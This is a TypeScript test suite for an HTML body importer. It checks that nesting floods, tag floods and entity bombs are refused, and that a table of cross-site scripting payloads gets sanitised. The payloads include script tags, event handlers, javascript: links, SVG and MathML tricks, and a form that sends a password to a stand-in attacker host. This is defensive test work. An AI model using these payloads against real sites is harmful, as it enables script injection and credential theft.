// Hostile HTML through the body importer: nesting that would overflow a stack or make the parser
// quadratic, entity bombs, oversized fragments, and every way HTML carries script. Each answer is a
// document that renders into the serializer's allowlist, or a DocumentError saying what is wrong.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { allowlistProblems } from '../../../test/helpers/html-allowlist.ts';
import { documentFromBodyInput } from './body-input.ts';
import { DocumentError } from './document-error.ts';
import type { Doc } from './document-types.ts';
import { documentFromHtml } from './from-html.ts';
import { renderDocumentHtml } from './render-html.ts';
import { documentToPlainText } from './to-plain-text.ts';

const refused = (pattern: RegExp) => (error: unknown) => error instanceof DocumentError && pattern.test(error.message);

test('10,000 nested <div>, <b>, <blockquote>, <li>, <span> and <td> are refused with a clear error, not a stack overflow', () => {
  const nests = ['div', 'b', 'blockquote', 'span', 'font'].map((tag) => `${`<${tag}>`.repeat(10_000)}গভীর${`</${tag}>`.repeat(10_000)}`);
  nests.push('<ul><li>'.repeat(10_000), '<table><tr><td>'.repeat(3_400));
  for (const html of nests) assert.throws(() => documentFromBodyInput(html), refused(/nests elements more than 512 deep/), html.slice(0, 20));
});

test('nesting below the refusal is flattened and keeps its text', () => {
  const doc = documentFromHtml(`<div>${'<div><b>'.repeat(250)}গভীর${'</b></div>'.repeat(250)}</div>`);
  assert.equal(documentToPlainText(doc), 'গভীর');
});

// htmlparser2 shifts and searches its array of open elements at every tag, so work grows with
// tags × depth: 660,000 unclosed <i> (a 2 MB body) took minutes before these limits.
test('more tags or attributes than any body needs are refused before parsing', () => {
  assert.throws(() => documentFromBodyInput('<i>'.repeat(60_000)), refused(/more than 50000 tags/));
  assert.throws(() => documentFromBodyInput(`${'<i>'.repeat(500)}${'</p>'.repeat(60_000)}`), refused(/more than 50000 tags/));
  assert.throws(() => documentFromBodyInput(`<span ${'a=1 '.repeat(250_000)}>x</span>`), refused(/more than 200000 attributes/));
});

test('a body of more nodes than a document holds is refused while importing, before the whole document is built', () => {
  assert.throws(() => documentFromHtml('<p>x'.repeat(40_000)), refused(/more than 5000 nodes/));
  // Exactly at the limit it still imports: the count is the validator's.
  assert.equal(documentFromHtml('<p>x</p>'.repeat(2_499)).content.length, 2_499);
});

test('entity bombs: entities expand only to their text, within the text limit; no DTD entity is expanded', () => {
  assert.throws(() => documentFromHtml('&amp;'.repeat(400_000)), refused(/more than 200000 characters of text/));
  const dtd = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><p>&b;&b;&b;</p>';
  assert.match(documentToPlainText(documentFromHtml(dtd)), /&b;&b;&b;/);
  // Numeric references to NUL, a lone surrogate or a bidi override give no forbidden character.
  const doc = documentFromHtml('<p>a&#0;b&#xd800;c&#55296;d&#x202e;e&#x0001;f</p>');
  // eslint-disable-next-line no-control-regex -- the controls are what must not come out
  assert.deepEqual(renderDocumentHtml(doc).match(/[\u0000-\u0008\ud800-\udfff]/g), null);
});

// Each carrier of script or of a change to the page's meaning, and the text it may keep.
const CARRIERS: Array<[string, string, string]> = [
  ['script', '<p>আগে</p><script>alert(1)</script><p>পরে</p>', 'আগে\n\nপরে'],
  ['script, mixed case and attributes', '<p>ক</p><SCRIPT type="module" src="//evil.example/x.js"></SCRIPT>', 'ক'],
  ['style', '<style>body{background:url(javascript:alert(1))}</style><p>ক</p>', 'ক'],
  ['event handlers', '<p onclick="alert(1)" onmouseover="alert(2)">ক<img src="/media/a.jpg" onerror="alert(3)" onload="alert(4)"></p>', 'ক'],
  ['javascript: links', '<p><a href="javascript:alert(1)">ক</a> <a href="jav&#x09;ascript:alert(1)">খ</a> <a href=" JAVASCRIPT:alert(1)">গ</a></p>', 'ক খ গ'],
  ['data: and vbscript: links', '<p><a href="data:text/html,<script>alert(1)</script>">ক</a><a href="vbscript:msgbox(1)">খ</a></p>', 'কখ'],
  ['svg with script', '<p>ক</p><svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>খ</text></a></svg>', 'ক'],
  ['svg foreignObject', '<svg><foreignObject><p>ক</p><img src=x onerror=alert(1)></foreignObject></svg><p>খ</p>', 'খ'],
  ['MathML', '<math><mtext><p>ক</p><img src=x onerror=alert(1)></mtext><maction actiontype="statusline#http://evil.example">x</maction></math><p>খ</p>', 'খ'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(2)"></iframe><p>ক</p>', 'ক'],
  ['base', '<base href="https://evil.example/"><p><a href="/x">ক</a></p>', 'ক'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>ক</p>', 'ক'],
  ['object and embed', '<object data="javascript:alert(1)"><p>ক</p></object><embed src="https://evil.example/x.swf"><p>খ</p>', 'খ'],
  [
    'form',
    '<form action="https://evil.example/steal"><input name="password" value="x"><button formaction="javascript:alert(1)">পাঠান</button></form>',
    'পাঠান',
  ],
  ['link and template', '<link rel="stylesheet" href="https://evil.example/x.css"><template><script>alert(1)</script></template><p>ক</p>', 'ক'],
  ['noscript trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>ক</p>', 'ক'],
  // `<!-->` is an empty comment to a browser too: the image is real (and dropped), `-->` is text.
  ['comments and CDATA', '<!--><img src=x onerror=alert(1)>--><p>ক<![CDATA[<script>]]></p>', '-->\n\nক'],
  ['style and class attributes', '<p style="color:red" class="x" id="y" dir="rtl" data-x="1">ক</p>', 'ক'],
  ['a protocol-relative image and a credentials link', '<img src="//evil.example/a.jpg"><p><a href="https://bank.example@evil.example/">ক</a></p>', 'ক'],
];

test('script, style, event handlers, SVG, MathML, iframe srcdoc, base, meta refresh, object/embed and form are sanitised', () => {
  for (const [what, html, text] of CARRIERS) {
    const doc: Doc = documentFromBodyInput(html);
    const rendered = renderDocumentHtml(doc);
    assert.deepEqual(allowlistProblems(rendered), [], `${what}: ${rendered}`);
    assert.doesNotMatch(
      rendered,
      /script|alert|on[a-z]+=|srcdoc|evil\.example\/(?!a\.jpg)|<(?:base|meta|form|input|button|iframe|svg|math|object|embed|style|link|template)\b/i,
      what,
    );
    assert.equal(documentToPlainText(doc), text, what);
  }
});
